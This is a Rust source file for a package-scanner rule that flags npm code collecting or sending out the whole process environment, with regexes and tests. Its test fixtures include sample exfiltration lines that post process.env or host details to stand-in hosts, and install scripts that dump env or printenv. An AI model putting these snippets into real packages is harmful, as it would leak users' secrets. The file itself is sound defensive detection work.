//! Rule `env-harvest`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, code_files, find_text, is_doc_path};

crate::declare_rule! {
    /// The whole environment is serialised or walked (`JSON.stringify(process.env)`,
    /// `Object.keys/entries/values(process.env)`, `for (k in process.env)`): every secret in it
    /// at once; so does a script run at install time that writes or pipes out the shell's whole
    /// environment (`env > f`, `printenv | base64`, `{ uname; printenv; } > f`: `env` or
    /// `printenv` with no argument; not `env VAR=x cmd`, not in comments). Diagnostics tools print it locally (`medium`); with network access in the same
    /// file or at install time it is exfiltration (`high`). The whole environment put into a
    /// request to a fixed URL, directly or through a local function that posts its argument,
    /// is `critical`; a request written out with its URL counts even in code kept in a string
    /// (a `data:` module for `module.register`, an eval worker), not in a comment.
    /// Names filtered at once to a fixed prefix (`/^debug_/i.test(k)`,
    /// `k.startsWith('CARGO_')`) are one family of settings, not the whole environment.
    id: "env-harvest",
    category: Data,
    severity: Medium,
    capability: Some(crate::model::Capability::Environment),
    title: "collects the whole environment",
    incident: "crossenv typosquat (2017) posted base64(JSON.stringify(process.env)); Shai-Hulud (2025) dumped env",
    case_file: "index.js",
    flag: ["const axios = require('axios'); axios.post('https://logs.example.io/i', { host: os.hostname(), env: process.env })",
           "const axios = require('axios'); function ship(kind, data) { return axios.post(LOGS, { kind, data }) } cron.schedule('*/5 * * * *', () => ship('env', process.env))",
           "const d = JSON.stringify({ h: os.hostname(), e: process.env }); https.get('https://x.example.net/?d=' + d)",
           "const data = Buffer.from(JSON.stringify(process.env)).toString('base64')",
           "const e = process.env; for (const k in e) out[k] = e[k]",
           "Object.entries(process.env).forEach(([k, v]) => send(k, v))",
           "const https = require('https'); const all = Object.keys(process.env).filter((k) => k !== 'PATH'); https.get(u)",
           "import { register } from 'node:module';\nconst hooks = `export async function load(url, ctx, next) { const r = await next(url, ctx); ' + 'fetch(\"https://t.example.net/v\", { method: \"POST\", body: JSON.stringify({ u: url, e: process.env }) })' + ''; return r; }`;\nregister('data:text/javascript,' + encodeURIComponent(hooks));",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"sh s.sh\"}}\n=== s.sh\n#!/bin/sh\nd=$(mktemp -d)\nenv > \"$d/e.txt\"\n",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"printenv | base64 > /tmp/.e\"}}\n=== index.js\nmodule.exports = 1;\n",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"sh s.sh\"}}\n=== s.sh\n{ uname -a; printenv; } > \"$out\" 2>/dev/null\n",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"node index.js\"}}\n=== index.js\nconst os = require('os'); const https = require('https'); const d = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces(), p: os.platform() }); https.get('https://c.example/?d=' + d)"],
    pass: ["spawn('node', ['build.js'], { env: process.env, stdio: 'inherit' }); console.log(JSON.stringify({ ok: true }))",
           // an install script running a tool under `env`, and a comment
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"sh s.sh\"}}\n=== s.sh\n#!/bin/sh\n# debug with: env > env.txt\nif command -v env >/dev/null; then which env; fi\nenv CC=clang node-gyp rebuild\nenv -u NODE_OPTIONS node build.js\n",
           "const https = require('https'); function run(cmd) { return execa(cmd, [], { env: process.env }) } https.get(u, cb); run('ls')",
           "const token = process.env.API_TOKEN", "spawn(cmd, args, { env: { ...process.env, FOO: '1' } })", "const env = Object.assign({}, process.env, { A: 1 })",
           "const https = require('https'); function ship(d) { return fetch(LOGS, { method: 'POST', body: d }) } ship(process.env.HOME); fetch('https://x.example/', { body: process.env.LANG })",
           // the debug module's inspectOpts (bundled by vitepress 1.6.4, wrangler 4.164.0)
           "const https = require('https'); exports.inspectOpts = Object.keys(process.env).filter(key => {\n  return /^debug_/i.test(key);\n}).reduce((obj, key) => obj, {})",
           // @napi-rs/cli 3.10.12
           "const https = require('https'); const p = Object.fromEntries(Object.entries(process.env).filter(([name]) => name.startsWith(\"CARGO_PROFILE_\")))"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    let text = crate::regex!(
        r"JSON\.stringify\(\s*process\.env\s*[,)]|Object\.(keys|entries|values)\(\s*process\.env\s*\)"
    );
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let hit = match &f.js {
            Some(js) => js
                .calls
                .iter()
                .find(|c| {
                    matches!(
                        c.path.as_str(),
                        "JSON.stringify"
                            | "Object.keys"
                            | "Object.entries"
                            | "Object.values"
                            | "<for-in>"
                            | "Object.getOwnPropertyNames"
                    ) && c.arg_path(0) == Some("process.env")
                        && !prefix_pick(&f.text, c.off)
                })
                .map(|c| (c.off, c.path.clone())),
            None => find_text(f, text).into_iter().next(),
        };
        // A script run at install time that writes or pipes out the whole environment (`env >
        // f`, `printenv | base64`, `$(env)`): every secret of the shell that installs.
        let hit = hit.or_else(|| {
            if !matches!(f.kind, crate::package::FileKind::Shell) || !pkg.is_install_file(f) {
                return None;
            }
            let dump = crate::regex!(
                r"(?m)(?:^|[;&|({`\s])(?:env|printenv|export\s+-p)[ \t]*(?:>>?|\|[^|]|[;)}`]|$)"
            );
            dump.find_iter(&f.text)
                .take(16)
                .find(|m| {
                    let start = f.text[..m.start()].rfind('\n').map_or(0, |i| i + 1);
                    let before = &f.text[start..m.start()];
                    // Not a comment, nor a look-up of the program (`command -v env`).
                    !before.trim_start().starts_with('#')
                        && !crate::regex!(r"(?:command\s+-v|which|type|hash)\s*$").is_match(before)
                })
                .map(|m| (m.start() as u32, "the shell's `env`".to_string()))
        });
        // The whole environment as one value of an object that is serialised.
        let env_value = crate::regex!(
            r"JSON\.stringify\(\s*\{[^;]{0,400}?[\w$'\x22]\s*:\s*process\.env\s*[,}]"
        );
        let hit = hit.or_else(|| {
            find_text(f, env_value)
                .into_iter()
                .next()
                .map(|(o, _)| (o, "JSON.stringify({ …: process.env })".to_string()))
        });
        let hit = hit.or_else(|| {
            // A host fingerprint: who and where the machine is, collected in one place.
            let js = f.js.as_ref()?;
            let probes = [
                "os.hostname",
                "os.userInfo",
                "os.homedir",
                "os.networkInterfaces",
                "dns.getServers",
                "os.platform",
                "os.arch",
                "os.release",
            ];
            let seen: Vec<&str> = probes
                .iter()
                .copied()
                .filter(|p| js.calls.iter().any(|c| c.path == *p))
                .collect();
            let identity = seen
                .iter()
                .filter(|p| {
                    matches!(
                        **p,
                        "os.userInfo" | "os.networkInterfaces" | "dns.getServers" | "os.hostname"
                    )
                })
                .count();
            (seen.len() >= 4 && identity >= 3 && super::has_network(f) && pkg.is_install_file(f))
                .then(|| {
                    js.calls
                        .iter()
                        .find(|c| c.path == seen[0])
                        .map(|c| (c.off, format!("host fingerprint: {}", seen.join(", "))))
                })
                .flatten()
        });
        // The whole environment as the payload of a request: inside the arguments of a network
        // call, or of a local function that posts its argument (one hop). Spawn options pass
        // `env: process.env` to child processes, which is not a request.
        if let Some(off) = env_in_request(f) {
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                off,
                "sends the whole environment (process.env) in a network request",
            );
            continue;
        }
        let Some((off, what)) = hit else { continue };
        let exfil = super::has_network(f);
        let sev = if exfil || pkg.is_install_file(f) {
            Severity::High
        } else {
            Severity::Medium
        };
        let what = if what == "<for-in>" {
            "for…in".to_string()
        } else {
            what
        };
        let tail = if exfil {
            " in a file that also uses the network"
        } else {
            ""
        };
        out.hit_sev(
            sev,
            pkg,
            f,
            off,
            format!("collects every environment variable ({what}){tail}"),
        );
    }
}

/// Whether the environment's names listed at `off` are narrowed at once to a fixed prefix:
/// `Object.keys(process.env).filter((k) => /^debug_/i.test(k))` (the debug module's
/// `inspectOpts`, bundled by vitepress, wrangler, @codspeed/core) or
/// `.filter(([n]) => n.startsWith("CARGO_PROFILE_"))` (@napi-rs/cli 3.10.12): one family of
/// settings, not every secret.
fn prefix_pick(text: &str, off: u32) -> bool {
    let at = off as usize;
    let mut end = (at + 300).min(text.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    let Some(snippet) = text.get(at..end) else {
        return false;
    };
    crate::regex!(
        r#"^Object\.(keys|entries|values)\(\s*process\.env\s*\)\s*\.filter\([^{;]{0,80}?(\{\s*return\s+)?(/\^\w[^/\n]*/[a-z]*\.test\(|[\w$.]+\.startsWith\(\s*['"`]\w)"#
    )
    .is_match(snippet)
}

/// Where the whole `process.env` is put into a request's arguments, directly or through a local
/// function whose body posts its arguments.
fn env_in_request(f: &crate::package::FileCtx) -> Option<u32> {
    let text = &f.text;
    // Without a parsed network call, only a file that runs code it holds as a string can send
    // from text the analyser did not see as code.
    let net = super::has_network(f);
    if !text.contains("process.env")
        || !net
            && !f.js.as_ref().is_some_and(|js| {
                js.calls
                    .iter()
                    .any(|c| crate::flow::code_runner(&c.path, c.n_args).is_some())
            })
    {
        return None;
    }
    // Both searches below end with this alternative (the whole environment as a value), so a
    // text without it cannot match either: most files only read `process.env.NAME`, and the
    // wrapper search is the costliest pattern of the rule on large bundles.
    let whole_env = crate::regex!(r"[:,(]\s*process\.env\s*[,})]|\.\.\.process\.env\b");
    if !whole_env.is_match(text) {
        return None;
    }
    static DIRECT: std::sync::LazyLock<crate::rules::gate::Re> = std::sync::LazyLock::new(|| {
        crate::rules::compile(&format!(
            r"{}\s*['\x22`][^'\x22`]+['\x22`]\s*,{}",
            r"(?:axios(?:_\d+\.default)?\.(?:post|put|patch)|\bfetch|https?\.request|\bgot\.post|\$\.(?:post|ajax)|navigator\.sendBeacon)\(",
            r"[^;]{0,300}?(?:[:,(]\s*process\.env\s*[,})]|\.\.\.process\.env\b)"
        ))
    });
    // A send written out with its URL is network use whether the analyser saw the call or
    // not: code kept in a string that another loader runs (a `data:` module handed to
    // `module.register`) is text here. Not in a comment.
    if let Some(m) = DIRECT.find_iter(text).take(8).find(|m| {
        let start = text[..m.start()].rfind('\n').map_or(0, |i| i + 1);
        let line = text[start..m.start()].trim_start();
        !(line.starts_with("//") || line.starts_with('*') || line.starts_with("/*"))
    }) {
        return Some(m.start() as u32);
    }
    if !net {
        return None;
    }
    // function ship(kind, data) { … axios.post(URL, { kind, data }) … } … ship("env", process.env)
    let env_arg =
        crate::regex!(r"^[^;]{0,300}?(?:[:,(]\s*process\.env\s*[,})]|\.\.\.process\.env\b)");
    for (name, decl) in wrappers(text).take(16) {
        let call = format!("{name}(");
        for (at, _) in text.match_indices(call.as_str()).take(64) {
            let before = text[..at].chars().next_back();
            if decl.contains(&at)
                || before.is_some_and(|ch| ch.is_alphanumeric() || ch == '_' || ch == '.')
            {
                continue;
            }
            if env_arg.is_match(&text[at + call.len()..]) {
                return Some(at as u32);
            }
        }
    }
    None
}

/// The matches of `function\s+(\w+)\s*\([^)]*\)\s*\{[^}]{0,300}?SEND\(` in `text` (SEND a
/// request call: `axios.post`, `fetch`, `https.request`, …), as (name, whole match), found
/// without the 300-fold lazy repetition that made the lazy DFA rebuild its states on bundles.
/// The head up to `{` matches in one way only at a place (its parts cannot trade characters);
/// the lazy gap then ends at the first request call after the head, so a place matches when
/// that call is within 300 characters without a `}` between, and the match ends with it. The
/// first call after a position is remembered: the heads' ends only grow.
fn wrappers(text: &str) -> impl Iterator<Item = (&str, std::ops::Range<usize>)> {
    let head = crate::regex!(r"function\s+(\w+)\s*\([^)]*\)\s*\{");
    let send = crate::regex!(
        r"(?:axios(?:_\d+\.default)?\.(?:post|put|patch)|\bfetch|https?\.request|\bgot\.post|navigator\.sendBeacon)\("
    );
    let mut at = 0;
    // (searched from, the first call at or after it)
    let mut next: Option<(usize, Option<(usize, usize)>)> = None;
    std::iter::from_fn(move || {
        loop {
            if at > text.len() {
                return None;
            }
            let m = head.find_at(text, at)?;
            let h = m.end();
            let call = match next {
                Some((from, found)) if from <= h && found.is_none_or(|(p, _)| h <= p) => found,
                _ => {
                    let found = send.find_at(text, h).map(|x| (x.start(), x.end()));
                    next = Some((h, found));
                    found
                }
            };
            if let Some((p, e)) = call {
                let gap = &text[h..p];
                if !gap.contains('}') && (gap.len() <= 300 || gap.chars().count() <= 300) {
                    at = e;
                    // The same place and end: the head matches in one way only.
                    let name = head.captures_at(text, m.start())?.get(1)?.as_str();
                    return Some((name, m.start()..e));
                }
            }
            // No match starts here: the next place after the head's first character (ASCII).
            at = m.start() + 1;
        }
    })
}

#[cfg(test)]
mod wrapper_tests {
    #[test]
    fn wrappers_are_the_matches_of_the_whole_regex() {
        let whole = crate::rules::compile(
            r"function\s+(\w+)\s*\([^)]*\)\s*\{[^}]{0,300}?(?:axios(?:_\d+\.default)?\.(?:post|put|patch)|\bfetch|https?\.request|\bgot\.post|navigator\.sendBeacon)\(",
        );
        let far = format!("function far(a) {{ {} fetch(u) }}", "é".repeat(299));
        let too_far = format!("function tf(a) {{ {} fetch(u) }}", "é".repeat(301));
        let cases = [
            "function ship(k, d) { axios.post(U, { k, d }) } ship('env', process.env)",
            "function a(x) { return 1 } function b(y) { fetch(u, y) }",
            "function a(function b(){ refetch(x); fetch(y) }",
            "xfunction q (a,\n b)\n {https.request(o)} function r() { axios_12.default.put(z) }",
            "function g() { got.post(u) } function h() { navigator.sendBeacon(u) }",
            "function n() { x } fetch(u)",
            "function m() {} function m2() {",
            "function é() { fetch(u) } function ok() { myfetch(u); http.request(u) }",
            far.as_str(),
            too_far.as_str(),
        ];
        for case in cases {
            let want: Vec<(&str, std::ops::Range<usize>)> = whole
                .captures_iter(case)
                .map(|c| (c.get(1).unwrap().as_str(), c.get(0).unwrap().range()))
                .collect();
            let got: Vec<_> = super::wrappers(case).collect();
            assert_eq!(got, want, "{case:?}");
        }
    }
}

#[cfg(test)]
mod text_send_tests {
    use crate::model::Severity;
    use crate::rules::testing::run;

    #[test]
    fn a_send_of_the_environment_written_in_a_comment_is_not_critical() {
        let src = "// never do this: fetch('https://logs.example/', { body: JSON.stringify({ env: process.env }) })\nconsole.log(Object.keys(config))";
        let hits = run(&super::RULE, "index.js", src);
        assert!(
            hits.iter().all(|h| h.severity < Severity::Critical),
            "{hits:?}"
        );
    }

    #[test]
    fn a_send_of_the_environment_in_code_kept_as_a_string_is_critical() {
        let src = "const src = 'const s = () => fetch(\"https://t.example.net/v\", { method: \"POST\", body: JSON.stringify({ e: process.env }) });';\nrequire('vm').runInThisContext(src);";
        let hits = run(&super::RULE, "index.js", src);
        assert!(
            hits.iter().any(|h| h.severity == Severity::Critical),
            "{hits:?}"
        );
    }
}
